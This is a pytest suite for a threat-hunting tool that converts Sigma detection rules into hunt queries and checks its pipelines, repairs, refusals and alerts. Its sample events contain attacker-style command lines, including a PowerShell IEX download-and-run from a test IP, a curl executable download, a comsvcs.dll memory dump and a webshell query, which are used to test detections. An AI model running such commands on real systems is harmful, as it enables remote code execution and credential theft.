"""``hunter import sigma`` over the Sigma rules in tests/rules/sigma: pipelines, repairs, refusals, alerts."""

from __future__ import annotations

import copy
import json
import sys
import tomllib
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip(
    "sigma.backends.elasticsearch", reason="pySigma is not installed (pip install 'hunter[sigma]')"
)

from hunter.cli import main
from hunter.eql import compile_query
from hunter.hunts import load_hunt_set
from hunter.rules.sigma import ImportReport, import_sigma
from tests.conftest import AUDITBEAT, LUA_EXEC, LUA_FORK, SHARED, SettingsFactory, sample

RULES = Path(__file__).parent / "sigma"
TELEMETRY = SHARED / "telemetry"
SUMMARY = (
    "converted 28, repaired 12, refused 7 (by reason: correlation 1, duplicate-id 1, engine 1, "
    "field-wildcard 1, invalid 1, keyword 1, unsupported 1)"
)
ENCODED = "windows/process_creation/proc_creation_win_powershell_encoded_cmd"
LUA = "linux/process_creation/proc_creation_lnx_lua_os_command"


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> tuple[ImportReport, Path]:
    """One import of every test rule (read-only for the tests that share it)."""
    out = tmp_path_factory.mktemp("sigma-hunts")
    return import_sigma([RULES], out), out


def _hunt(out: Path, name: str) -> dict[str, Any]:
    return tomllib.loads((out / f"{name}.toml").read_text(encoding="utf-8"))


def _query(out: Path, name: str) -> str:
    query: str = _hunt(out, name)["queries"]["query"]["query"]
    return query


def _matches(query: str, source: dict[str, Any]) -> bool:
    document = {"@timestamp": "2026-11-20T10:00:00.000Z", **source}
    event = {"_index": "logs-endpoint.events.process-default", "_id": "1", "_source": document}
    return bool(compile_query(query).search([event])["events"])


def _process(command_line: str, **process: Any) -> dict[str, Any]:
    return {
        "@timestamp": "2026-11-20T10:00:00.000Z",
        "event": {"category": ["process"], "type": ["start"], "action": "start"},
        "process": {"command_line": command_line, **process},
    }


# ---- the whole import ---------------------------------------------------------------------------


def test_summary_line_counts_every_outcome(imported: tuple[ImportReport, Path]) -> None:
    """The import's last line counts converted, repaired and refused rules, refusals by reason."""
    report, _out = imported
    assert report.summary() == SUMMARY
    assert report.written == 28


def test_every_written_hunt_validates(imported: tuple[ImportReport, Path]) -> None:
    """``hunter validate`` accepts every file the import wrote, with the Sigma ids as hunt ids."""
    report, out = imported
    hunt_set = load_hunt_set([out])
    assert not hunt_set.problems
    assert sorted(hunt.id for hunt in hunt_set.hunts) == sorted(item.hunt_id for item in report.converted)
    assert "7a1f3c52-9a0e-4d4b-8e8f-0b6f2a8d4c11" in {hunt.id for hunt in hunt_set.hunts}


def test_reimport_rewrites_nothing(tmp_path: Path) -> None:
    """Importing the same rules again writes no file: the output is byte for byte the same."""
    import_sigma([RULES], tmp_path)
    before = {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in tmp_path.rglob("*.toml")}
    again = import_sigma([RULES], tmp_path)
    assert again.written == 0 and again.unchanged == 28
    assert {path: (path.read_bytes(), path.stat().st_mtime_ns) for path in tmp_path.rglob("*.toml")} == before


def test_rule_metadata_becomes_hunt_metadata(imported: tuple[ImportReport, Path]) -> None:
    """Title, description, level, tags, ATT&CK, author, references, false positives and indices map over."""
    _report, out = imported
    hunt = _hunt(out, ENCODED)
    assert hunt["name"] == "PowerShell Started With an Encoded Command"
    assert hunt["description"].startswith("Detects PowerShell started with the -EncodedCommand")
    assert (hunt["severity"], hunt["risk_score"]) == ("high", 73)
    assert hunt["tags"] == [
        "sigma",
        "sigma.status.test",
        "attack.execution",
        "attack.t1059.001",
        "attack.defense-evasion",
        "attack.t1027.010",
    ]
    assert [entry["tactic"]["id"] for entry in hunt["threat"]] == ["TA0002", "TA0005"]
    techniques = hunt["threat"][0]["technique"]
    assert [(t["id"], [s["id"] for s in t["subtechnique"]]) for t in techniques] == [
        ("T1059", ["T1059.001"]),
        ("T1027", ["T1027.010"]),
    ]
    assert techniques[0]["subtechnique"][0]["reference"] == "https://attack.mitre.org/techniques/T1059/001/"
    assert hunt["author"] == ["hunter tests"]
    assert hunt["false_positives"] == ["Software deployment tools that run encoded PowerShell"]
    assert hunt["indices"] == [
        "logs-endpoint.events.process-*",
        "winlogbeat-*",
        "logs-windows.sysmon_operational-*",
    ]
    assert "status test" in hunt["notes"] and "several tactics" in hunt["notes"]


@pytest.mark.parametrize(
    ("name", "severity", "risk"),
    [
        ("cloud/aws/aws_cloudtrail_stop_logging", "low", 1),  # informational
        ("linux/process_creation/proc_creation_lnx_crontab_removal", "low", 21),
        ("windows/process_creation/proc_creation_win_certutil_download", "medium", 47),
        ("windows/process_creation/proc_creation_win_powershell_iex_download", "critical", 99),
    ],
)
def test_level_maps_to_severity_and_risk(
    imported: tuple[ImportReport, Path], name: str, severity: str, risk: int
) -> None:
    """Sigma levels become the severity and risk score the backend's Kibana rules carry."""
    hunt = _hunt(imported[1], name)
    assert (hunt["severity"], hunt["risk_score"]) == (severity, risk)


def test_deprecated_rule_is_written_disabled(tmp_path: Path) -> None:
    """A deprecated Sigma rule is converted but disabled, and its notes say why."""
    rule = (RULES / "linux/process_creation/proc_creation_lnx_crontab_removal.yml").read_text()
    source = tmp_path / "rules" / "old.yml"
    source.parent.mkdir()
    source.write_text(rule.replace("status: experimental", "status: deprecated"))
    report = import_sigma([source], tmp_path / "out")
    hunt = _hunt(tmp_path / "out", "old")
    assert report.summary() == "converted 1, repaired 0, refused 0 (by reason: none)"
    assert hunt["enabled"] is False and "Disabled: the Sigma rule's status is deprecated." in hunt["notes"]


# ---- one per pipeline -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "pipeline", "fragment"),
    [
        (
            "windows/process_creation/proc_creation_win_certutil_download",
            "ecs_windows",
            'process.executable.caseless:"*\\\\certutil.exe"',
        ),
        (
            "windows/builtin/security/win_security_member_added_to_admins",
            "ecs_windows",
            'winlog.channel:"Security" and (event.code:"4732" and winlog.event_data.TargetSid:',
        ),
        (
            "network/dns/net_dns_onion_lookup",
            "ecs_zeek_beats",
            'event.dataset:"zeek.dns" and dns.question.name',
        ),
        (
            "network/zeek/zeek_http_executable_download",
            "ecs_zeek_beats",
            'http.request.method:"GET" and (url.original like~',
        ),
        (
            "cloud/kubernetes/kubernetes_secrets_listed",
            "ecs_kubernetes",
            'not kubernetes.audit.user.username:"system:*"',
        ),
        (
            "macos/process_creation/proc_creation_macos_osascript_password_prompt",
            "ecs_macos_esf",
            'process.executable.caseless:"*/osascript"',
        ),
        (
            LUA,
            "ecs_linux",
            '(event.category:"process" and (event.action like~ ("exec", "executed", "process_started")))',
        ),
        (
            "linux/file_event/file_event_lnx_cron_file_created",
            "ecs_linux",
            'event.category:"file" and (event.type like~ ("creation", "change"))) and ((file.path like~',
        ),
        (
            "linux/network_connection/net_connection_lnx_interpreter_susp_port",
            "ecs_linux",
            'event.category:"network" and ((process.executable like~',
        ),
        ("cloud/aws/aws_cloudtrail_stop_logging", "none", 'eventSource:"cloudtrail.amazonaws.com"'),
    ],
)
def test_pipeline_by_log_source(
    imported: tuple[ImportReport, Path], name: str, pipeline: str, fragment: str
) -> None:
    """Each log source goes through its ECS pipeline, named in the notes; the query has its ECS fields."""
    hunt = _hunt(imported[1], name)
    assert fragment in hunt["queries"]["query"]["query"]
    assert f"pipeline {pipeline}." in hunt["notes"]


def test_linux_pipeline_reads_auditd_proctitle(imported: tuple[ImportReport, Path]) -> None:
    """Sigma's CommandLine on Linux is process.command_line (Defend) or process.title (auditd)."""
    query = _query(imported[1], LUA)
    assert 'process.title like~ ("*os.execute*"' in query
    assert 'network.direction:"egress"' in _query(
        imported[1], "linux/network_connection/net_connection_lnx_interpreter_susp_port"
    )


def test_unmapped_log_sources_are_noted(imported: tuple[ImportReport, Path]) -> None:
    """A rule no pipeline maps keeps its own field names and its notes say so."""
    aws = _hunt(imported[1], "cloud/aws/aws_cloudtrail_stop_logging")
    assert "No ECS pipeline maps its log source (product=aws, service=cloudtrail)" in aws["notes"]
    assert "apm-*-transaction*" in aws["indices"]  # Kibana's default index patterns
    macos = _hunt(imported[1], "macos/process_creation/proc_creation_macos_security_dump_keychain")
    assert "Pipeline ecs_macos_esf changed nothing" in macos["notes"]


def test_forced_pipeline_applies_to_every_rule(tmp_path: Path) -> None:
    """``--pipeline`` puts every rule through one pipeline, whatever its log source."""
    rule = RULES / "linux/process_creation/proc_creation_lnx_crontab_removal.yml"
    import_sigma([rule], tmp_path, pipeline="ecs_windows")
    hunt = _hunt(tmp_path, "proc_creation_lnx_crontab_removal")
    assert "pipeline ecs_windows." in hunt["notes"]
    assert (
        "winlog.event_data.User" not in hunt["queries"]["query"]["query"]
    )  # product linux: no windows items
    assert "event.category" not in hunt["queries"]["query"]["query"]


# ---- one per repair --------------------------------------------------------------------------------

REPAIR_CASES = [
    (
        "number-equals",
        "cloud/kubernetes/kubernetes_privileged_pod_created",
        "securityContext.privileged == true",
        {
            "kubernetes": {
                "audit": {
                    "kind": "Event",
                    "verb": "create",
                    "objectRef": {"resource": "pods"},
                    "responseObject": {"spec": {"containers": {"securityContext": {"privileged": True}}}},
                }
            }
        },
        {
            "kubernetes": {
                "audit": {
                    "kind": "Event",
                    "verb": "create",
                    "objectRef": {"resource": "pods"},
                    "responseObject": {"spec": {"containers": {"securityContext": {"privileged": False}}}},
                }
            }
        },
    ),
    (
        "number-list",
        "windows/network_connection/net_connection_win_rundll32_susp_port",
        "destination.port in (4444, 1337, 31337)",
        {"process": {"executable": "C:\\Windows\\System32\\rundll32.exe"}, "destination": {"port": 4444}},
        {"process": {"executable": "C:\\Windows\\System32\\rundll32.exe"}, "destination": {"port": 443}},
    ),
    (
        "field-backticks",
        "web/webserver/web_iis_webshell_cmd_parameter",
        '`cs-uri-query` like~ ("*cmd=*", "*exec=*")',
        {
            "event": {"dataset": "zeek.http"},
            "http": {"request": {"method": "POST"}},
            "cs-uri-query": "a=1&cmd=id",
        },
        {"event": {"dataset": "zeek.http"}, "http": {"request": {"method": "POST"}}, "cs-uri-query": "a=1"},
    ),
    (
        "literal-wildcard",
        "windows/process_creation/proc_creation_win_keepass_db_search",
        'process.command_line regex~ ".*dir /s \\\\*\\\\.kdbx.*"',
        _process("cmd.exe /c DIR /S *.KDBX"),
        _process("cmd.exe /c dir /s x.kdbx"),  # the '*' is literal: a wildcard would match this too
    ),
    (
        "needless-escape",
        "windows/process_creation/proc_creation_win_curl_ip_url",
        'regex~ ".*https?://\\\\d{1,3}',
        _process(
            "curl.exe -o a.exe http://203.0.113.7:8080/a.exe", executable="C:\\Windows\\System32\\curl.exe"
        ),
        _process("curl.exe -o a.exe https://example.com/a.exe", executable="C:\\Windows\\System32\\curl.exe"),
    ),
    (
        "regex-quote",
        "windows/process_creation/proc_creation_win_powershell_iex_download",
        'DownloadString\\\\(\\\\\\"http.*"',
        _process('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.7/a.ps1")'),
        _process("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
    ),
    (
        "regex-search",
        "windows/process_creation/proc_creation_win_users_public_exe",
        r'process.command_line regex~ "\\\"?[A-Za-z]:\\\\Users\\\\Public\\\\[^\\\\]+\\.exe\\\"?"',
        _process("C:\\Users\\Public\\update.exe"),
        _process("C:\\Windows\\explorer.exe C:\\Users\\Public\\update.exe"),  # anchored at the start
    ),
    (
        "inline-caseless",
        "windows/process_creation/proc_creation_win_mshta_inline_caseless",
        'process.command_line regex~ ".*mshta',
        _process('"C:\\Windows\\System32\\MSHTA.EXE" JavaScript:alert(1)'),
        _process("mshta.exe C:\\apps\\setup.hta"),
    ),
    (
        "cased-wildcard",
        "windows/process_creation/proc_creation_win_comsvcs_minidump",
        'process.command_line like "*MiniDump*"',
        _process(
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full",
            executable="C:\\Windows\\System32\\rundll32.exe",
        ),
        _process(
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, minidump 624 C:\\t\\l.dmp full",
            executable="C:\\Windows\\System32\\rundll32.exe",
        ),
    ),
]


@pytest.mark.parametrize(
    ("repair", "name", "fragment", "matching", "other"), REPAIR_CASES, ids=[case[0] for case in REPAIR_CASES]
)
def test_repair(
    imported: tuple[ImportReport, Path],
    repair: str,
    name: str,
    fragment: str,
    matching: dict[str, Any],
    other: dict[str, Any],
) -> None:
    """Each repair is named in the notes, rewrites the query, and keeps the rule's meaning on events."""
    hunt = _hunt(imported[1], name)
    query = hunt["queries"]["query"]["query"]
    assert fragment in query
    assert f"- {repair}: " in hunt["notes"]
    assert _matches(query, matching)
    assert not _matches(query, other)
    report = imported[0]
    (converted,) = [item for item in report.converted if item.target.name == Path(name).name + ".toml"]
    assert repair in converted.repairs


def test_a_rule_without_repairs_has_no_repair_notes(imported: tuple[ImportReport, Path]) -> None:
    """The backend's EQL is kept as it is where Elasticsearch accepts it."""
    hunt = _hunt(imported[1], "windows/process_creation/proc_creation_win_certutil_download")
    assert "Repairs" not in hunt["notes"]
    assert hunt["queries"]["query"]["query"] == (
        'any where process.executable.caseless:"*\\\\certutil.exe" and '
        '(process.command_line:"*urlcache*" and process.command_line:"*http*")'
    )


def test_null_check_on_a_hyphenated_field_is_quoted(imported: tuple[ImportReport, Path]) -> None:
    """``not field: null`` keeps its field quoted (the converter wrote it raw, turning it into arithmetic)."""
    query = _query(imported[1], "web/webserver/web_iis_authenticated_backup_request")
    assert "?`cs-username` != null" in query
    assert _matches(
        query, {"cs-uri-stem": "/site.bak", "cs-username": "bob", "event": {"dataset": "zeek.http"}}
    )
    assert not _matches(query, {"cs-uri-stem": "/site.bak", "event": {"dataset": "zeek.http"}})


# ---- one per refusal --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reason", "source", "detail"),
    [
        ("keyword", "refused/win_keywords_mimikatz.yml", "keyword mimikatz is searched without a field"),
        (
            "field-wildcard",
            "network/zeek/zeek_smb_files_admin_share.yml",
            "field name zeek.*.path has a wildcard",
        ),
        (
            "unsupported",
            "refused/win_proc_creation_regex_flag.yml",
            "regex flags (ignorecase) have no EQL form",
        ),
        (
            "correlation",
            "refused/win_correlation_many_failed_logons.yml",
            "correlation rules are not converted",
        ),
        ("engine", "refused/proc_creation_lnx_base64_blob_decoded.yml", "integer expected"),
        ("invalid", "refused/win_no_detection.yml", "Sigma rule must have a detection"),
        (
            "duplicate-id",
            "windows/process_creation/proc_creation_win_powershell_encoded_cmd_copy.yml",
            "id 7a1f3c52-9a0e-4d4b-8e8f-0b6f2a8d4c11 is also the id of",
        ),
    ],
)
def test_refusal(imported: tuple[ImportReport, Path], reason: str, source: str, detail: str) -> None:
    """Each refused rule is counted under its reason, with a detail, and no hunt file is written for it."""
    report, out = imported
    (refused,) = [item for item in report.refused if item.source == RULES / source]
    assert refused.reason == reason
    assert detail in refused.detail
    if reason not in ("correlation", "duplicate-id"):  # their files hold other rules that were written
        assert not (out / Path(source).with_suffix(".toml")).exists()


def test_correlation_base_rule_is_still_converted(imported: tuple[ImportReport, Path]) -> None:
    """The plain rule that a refused correlation refers to is converted on its own."""
    hunt = _hunt(imported[1], "refused/win_correlation_many_failed_logons_1")
    assert hunt["queries"]["query"]["query"] == 'any where winlog.channel:"Security" and event.code:"4625"'


# ---- alerts on telemetry ------------------------------------------------------------------------------


def _hunt_alerts(
    settings_file: SettingsFactory, tmp_path: Path, hunt: Path, events: dict[str, list[dict[str, Any]]]
) -> list[dict[str, Any]]:
    """The alert documents ``hunter hunt`` writes for one hunt file over the given event files."""
    folder = tmp_path / "events"
    folder.mkdir()
    for name, documents in events.items():
        (folder / name).write_text("".join(json.dumps(doc) + "\n" for doc in documents), encoding="utf-8")
    config = settings_file(events=[folder], queries=hunt)
    output = tmp_path / "alerts.ndjson"
    assert (
        main(
            [
                "hunt",
                "--events",
                str(folder),
                "--queries",
                str(hunt),
                "--output",
                str(output),
                "--config",
                str(config),
            ]
        )
        == 0
    )
    return [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]


def _telemetry(name: str) -> Any:
    path = TELEMETRY / name
    if not path.is_file():
        pytest.skip(f"../shared/telemetry/{name} is not present")
    return json.loads(path.read_text(encoding="utf-8"))


def test_converted_windows_rule_alerts_on_defend_and_sysmon_events(
    imported: tuple[ImportReport, Path], settings_file: SettingsFactory, tmp_path: Path
) -> None:
    """The encoded-PowerShell rule fires on an Elastic Defend and a Sysmon process start, case aside."""
    endpoint = _telemetry(
        "elastic_endpoint-package__package_endpoint_data_stream_process_sample_event"
        ".at_983ae67b_2022-04-05.json"
    )
    sysmon_cmd = _telemetry("winlogbeat-8.2.3_sysmon_event1_event11_real_export_from_public_writeup.json")[0]
    defend = copy.deepcopy(endpoint)
    defend["process"].update(
        executable="C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe",  # caseless: any case
        name="PowerShell.exe",
        command_line="powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        args=["powershell.exe", "-NoProfile", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"],
    )
    sysmon = copy.deepcopy(sysmon_cmd)
    sysmon["_id"] = "sysmon-powershell"
    sysmon["_source"]["process"].update(
        executable="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        name="powershell.exe",
        command_line='"powershell.exe" -nop -w hidden -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8A',
    )
    sysmon["_source"]["process"]["pe"]["original_file_name"] = "PowerShell.EXE"
    sccm = copy.deepcopy(defend)  # the same start under the SCCM agent is filtered out
    sccm["event"]["id"] = "sccm"
    sccm["process"]["parent"] = {"executable": "C:\\Windows\\CCM\\CcmExec.exe", "pid": 2212}
    alerts = _hunt_alerts(
        settings_file,
        tmp_path,
        imported[1] / f"{ENCODED}.toml",
        {
            "logs-endpoint.events.process-default.ndjson": [defend, sccm, endpoint],
            "winlogbeat-8.2.3.ndjson": [sysmon, sysmon_cmd],
        },
    )
    assert {alert["hunter"]["hunt"]["id"] for alert in alerts} == {"7a1f3c52-9a0e-4d4b-8e8f-0b6f2a8d4c11"}
    assert sorted(alert["process"]["command_line"][:18] for alert in alerts) == [
        '"powershell.exe" -',
        "powershell.exe -No",
    ]


def test_converted_linux_rule_alerts_on_defend_and_auditbeat_events(
    imported: tuple[ImportReport, Path], settings_file: SettingsFactory, tmp_path: Path
) -> None:
    """The Lua rule fires on a Defend exec (command_line) and an auditd EXECVE (title); not on the fork."""
    defend_exec = sample(LUA_EXEC)
    defend_fork = sample(LUA_FORK)
    auditd = sample((AUDITBEAT, 6))
    alerts = _hunt_alerts(
        settings_file,
        tmp_path,
        imported[1] / f"{LUA}.toml",
        {"endpoint-linux-os-execute.ndjson": [defend_exec, defend_fork], f"{AUDITBEAT}": [auditd]},
    )
    assert sorted(alert["process"]["executable"] for alert in alerts) == [
        "/usr/bin/lua5.3",
        "/usr/bin/lua5.4",
    ]
    assert {alert["hunter"]["hunt"]["id"] for alert in alerts} == {"e3b7a1d5-4c2f-4e9b-8a6d-0f5c3e1b7d62"}


# ---- the command --------------------------------------------------------------------------------------


def test_cli_lists_refusals_and_ends_with_the_summary(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``hunter import sigma -v`` lists every refusal and repair; its last line is the summary."""
    assert main(["import", "sigma", str(RULES), "--out", str(tmp_path / "out"), "-v"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == SUMMARY
    assert lines[-2] == f"28 hunt file(s) written to {tmp_path / 'out'}, 0 unchanged"
    refusals = [line for line in lines if ": refused: " in line]
    assert len(refusals) == 7
    keyword = f"{RULES / 'refused/win_keywords_mimikatz.yml'} (Mimikatz Keywords in the System Log)"
    assert f"{keyword}: refused: keyword mimikatz is searched without a field" in refusals
    assert sum(": repaired (" in line for line in lines) == 17  # one example per repair and rule


def test_cli_without_verbose_prints_two_lines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Without -v the command prints what it wrote and the summary, nothing else."""
    assert main(["import", "sigma", str(RULES / "linux"), "--out", str(tmp_path)]) == 0
    assert capsys.readouterr().out.splitlines() == [
        f"6 hunt file(s) written to {tmp_path}, 0 unchanged",
        "converted 6, repaired 1, refused 0 (by reason: none)",
    ]


def test_cli_unknown_pipeline_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An unknown --pipeline is bad input: exit 2 and one line naming the pipelines there are."""
    assert main(["import", "sigma", str(RULES), "--out", str(tmp_path), "--pipeline", "ecs_solaris"]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1 and "unknown pipeline 'ecs_solaris'" in err[0] and "ecs_linux" in err[0]


def test_cli_without_pysigma_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without pySigma the command exits 2 with one line saying what to install."""
    import hunter.rules

    monkeypatch.delitem(sys.modules, "hunter.rules.sigma_convert")
    monkeypatch.delattr(hunter.rules, "sigma_convert")
    for name in [name for name in sys.modules if name == "sigma" or name.startswith("sigma.")]:
        monkeypatch.setitem(sys.modules, name, None)  # as if pySigma were not installed
    assert main(["import", "sigma", str(RULES), "--out", str(tmp_path)]) == 2
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 1
    assert err[0].startswith(
        "hunter: the Sigma import needs pySigma and pySigma-backend-elasticsearch (sigma"
    )
    assert err[0].endswith(" is missing): pip install 'hunter[sigma]'")
    assert not list(tmp_path.iterdir())


def test_a_yaml_syntax_error_is_one_refused_rule_and_a_bad_out_one_line(tmp_path: Path) -> None:
    """A rule file that is not YAML is refused as invalid (the import goes on); an --out that cannot
    be written is a one-line error, not a traceback."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "broken.yml").write_text("title: x\ndetection: [unclosed\n", encoding="utf-8")
    good = sorted((RULES / "linux").rglob("*.yml"))[0]
    (rules / "good.yml").write_text(good.read_text(encoding="utf-8"), encoding="utf-8")
    assert main(["import", "sigma", str(rules), "--out", str(tmp_path / "out")]) == 0
    assert len(list((tmp_path / "out").glob("*.toml"))) == 1
    blocker = tmp_path / "file"
    blocker.write_text("", encoding="utf-8")
    assert main(["import", "sigma", str(rules), "--out", str(blocker)]) == 2
